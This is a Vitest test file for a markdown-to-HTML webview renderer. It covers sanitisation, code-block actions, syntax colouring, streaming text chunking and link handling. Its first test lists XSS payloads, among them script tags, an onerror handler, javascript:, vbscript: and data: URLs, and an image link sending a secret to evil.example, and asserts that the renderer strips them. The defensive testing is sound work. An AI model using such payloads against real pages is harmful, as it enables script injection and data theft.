// @vitest-environment jsdom
import { describe, expect, it, vi } from "vitest";
import { Cutter, pieces, toHtml } from "../../src/webview/markdown";
import { commandOf, followLink } from "../../src/webview/blocks/prose";

const dom = (text: string) => {
  const box = document.createElement("div");
  box.innerHTML = toHtml(text);
  return box;
};

describe("an answer", () => {
  it("R000-52: puts no HTML, script, style, handler or address of an image on the page", () => {
    const evil = [
      "<script>alert(1)</script>",
      '<img src=x onerror="alert(1)">',
      "![x](https://evil.example/leak?secret)",
      "[x](javascript:alert(1))",
      "[x](vbscript:x)",
      '<a href="command:x">x</a>',
      "[x](data:text/html;base64,PHNjcmlwdD4=)",
      '<button data-action="copy">x</button>',
      "<style>*{}</style>",
      '<iframe src="https://evil.example"></iframe>',
      "| a |\n|:-:|\n| b |",
    ];
    for (const text of evil) {
      const box = dom(text);
      expect(box.querySelectorAll("script, style, iframe, img, [style], [onerror], [data-action]").length, text).toBe(
        0,
      );
      expect(
        [...box.querySelectorAll("a")]
          .map((link) => link.getAttribute("href"))
          .filter((href) => /^(javascript|vbscript|command|data:text)/i.test(href ?? "")),
        text,
      ).toEqual([]);
    }
    expect(dom("![x](https://evil.example/leak)").querySelector("a")?.getAttribute("href")).toBe(
      "https://evil.example/leak",
    );
  });

  it("R000-67: is cleaned without a document of its own for each piece", () => {
    const made = vi.spyOn(DOMParser.prototype, "parseFromString");
    const nowhere = vi.spyOn(document.implementation, "createHTMLDocument");
    const html = Array.from({ length: 10 }, (_, at) => toHtml(`*${at}*`));
    expect(html).toEqual(Array.from({ length: 10 }, (_, at) => `<p><em>${at}</em></p>\n`));
    expect([made.mock.calls.length, nowhere.mock.calls.length <= 1]).toEqual([0, true]);
    vi.restoreAllMocks();
  });

  it("shows code as text, with what can be done with it", () => {
    const box = dom('```rs\nlet x = "<b>";\n```');
    expect(box.querySelector("code")?.textContent).toBe('let x = "<b>";\n');
    expect(
      [...box.querySelectorAll("[data-action]")].map((button) => [
        button.getAttribute("data-action"),
        button.getAttribute("aria-label"),
      ]),
    ).toEqual([
      ["copy", "Copy the code"],
      ["apply", "Apply the code to a file"],
      ["insert", "Insert the code at the cursor"],
      ["open", "Open the code in an editor"],
    ]);
    expect(box.querySelector(".code")?.getAttribute("data-language")).toBe("rs");
  });

  it("code has the colours of its language, a change those of a diff, and a place in it stays a link", () => {
    const classes = (text: string) => [...dom(text).querySelectorAll("pre span")].map((span) => [span.className, span.textContent]);
    expect(classes("```rust\nlet x = 1; // src/a.rs:2\n```")).toEqual([
      ["code-keyword", "let"],
      ["code-number", "1"],
      ["code-comment", "// src/a.rs:2"],
    ]);
    expect(dom("```rust\n// src/a.rs:2\n```").querySelectorAll("pre a").length).toBe(1);
    expect(classes("```diff\n@@ -1 +1 @@\n-a\n+b\n```").map(([of]) => of)).toEqual(["code-hunk", "code-removed", "code-added"]);
    expect(classes("```unheard\nlet x = 1;\n```")).toEqual([]);
  });

  it("code says which file it is of, and a command can be put into a terminal", () => {
    const of = (text: string) => {
      const box = dom(text);
      const actions = [...box.querySelectorAll("[data-action]")].map((button) => button.getAttribute("data-action"));
      return [box.querySelector(".code")?.getAttribute("data-path"), actions.includes("apply"), actions.includes("terminal")];
    };
    expect(of("```rust src/a.rs\nx\n```")).toEqual(["src/a.rs", true, false]);
    expect(of('```ts title="src/b c.ts"\nx\n```')[1]).toBe(true);
    expect(of("```py:src/a.py\nx\n```")).toEqual(["src/a.py", true, false]);
    expect(of("```sh\nls\n```")).toEqual([null, false, true]);
    expect(commandOf("$ cargo test\nrunning 3\n$ cargo run\n")).toBe("cargo test && cargo run");
    expect(commandOf("# all\ncargo build \\\n  --release\nls\n")).toBe("cargo build --release && ls");
  });

  it("things to do have their mark, and words for who cannot see it", () => {
    const box = dom("- [ ] write\n- [x] read\n- [a] link");
    expect([...box.querySelectorAll("li")].map((item) => [item.className, item.textContent?.trim().replace(/\s+/g, " ")])).toEqual([
      ["task-item", "to do: write"],
      ["task-item", "done: read"],
      ["", "[a] link"],
    ]);
  });

  it("a formula keeps its text, and money is none", () => {
    const box = dom("The sum $a_1 + b$ costs $5 or $6.\n\n$$\\frac{1}{2}$$ and \\(x\\)");
    expect([...box.querySelectorAll(".math")].map((math) => [math.getAttribute("data-math"), math.textContent])).toEqual([
      ["inline", "a_1 + b"],
      ["block", "\\frac{1}{2}"],
      ["inline", "x"],
    ]);
  });

  it("a name of a file is no address", () => {
    expect(dom("see main.rs and https://example.org").querySelectorAll("a").length).toBe(1);
  });
});

describe("a text that grows", () => {
  const TEXTS = [
    "",
    "a",
    "a\n\nb\n\nc",
    "# t\n\n```rs\na\n\nb\n```\n\nafter",
    "- a\n\n- b\n\n  more\n\nafter",
    "1. a\n\n2. b\n",
    "~~~\n```\n\n~~~\n\nx",
    "a\n\n    code\n\n    more\n\nb",
  ];

  it("is its pieces", () => {
    for (const text of TEXTS) expect(pieces(text).join("")).toBe(text);
  });

  it("a piece that is finished stays as it is, whatever comes", () => {
    for (const text of TEXTS) {
      let before: string[] = [];
      for (let end = 0; end <= text.length; end += 1) {
        const now = pieces(text.slice(0, end));
        expect(now.slice(0, Math.max(0, before.length - 1))).toEqual(before.slice(0, -1));
        before = now;
      }
    }
  });

  it("R000-67: cut while it grows it has the pieces that it has at once, and finished ones are cut once", () => {
    for (const text of TEXTS)
      for (const step of [1, 3, 7]) {
        const cutter = new Cutter();
        for (let end = 0; end <= text.length; end += step)
          expect(cutter.cut(text.slice(0, end))).toEqual(pieces(text.slice(0, end)));
        expect(cutter.cut(text)).toEqual(pieces(text));
        // Another text, and one that lost its end.
        expect(cutter.cut("x\n\ny")).toEqual(["x\n\n", "y"]);
        expect(cutter.cut("x")).toEqual(["x"]);
      }
  });

  it("R000-67: grown by what came it has the same pieces, and the finished ones are the same strings", () => {
    for (const text of TEXTS)
      for (const step of [1, 3, 7]) {
        const cutter = new Cutter();
        let end = Math.min(5, text.length);
        expect(cutter.cut(text.slice(0, end))).toEqual(pieces(text.slice(0, end)));
        while (end < text.length) {
          const more = text.slice(end, end + step);
          end += more.length;
          expect(cutter.grow(more)).toEqual(pieces(text.slice(0, end)));
        }
        // Cut as a whole after that it is the same, and another text is another.
        expect(cutter.cut(text)).toEqual(pieces(text));
        expect(cutter.cut("x\n\ny")).toEqual(["x\n\n", "y"]);
        expect(cutter.grow("z\n\nw")).toEqual(["x\n\n", "yz\n\n", "w"]);
      }
  });

  it("is not cut inside of code or of a list", () => {
    expect(pieces("```rs\na\n\nb\n```\n\nafter")).toEqual(["```rs\na\n\nb\n```\n\n", "after"]);
    expect(pieces("- a\n\n- b\n\nafter")).toEqual(["- a\n\n- b\n\n", "after"]);
  });
});

it("links open the web outside and files with their line in the editor", () => {
  const done: unknown[] = [];
  const model = { editor: async (...args: unknown[]) => void done.push(args) } as never;
  for (const href of ["https://example.org", "src/a%20b.rs:12", "src/a.rs:12:3", "src/a.rs#L7-L9", "README.md", "#x"])
    followLink(href, model);
  expect(done).toEqual([
    ["editor.openLink", { uri: "https://example.org" }],
    ["editor.openFile", { path: "src/a b.rs", line: 12 }],
    ["editor.openFile", { path: "src/a.rs", line: 12, column: 3 }],
    ["editor.openFile", { path: "src/a.rs", line: 7 }],
    ["editor.openFile", { path: "README.md" }],
  ]);
});
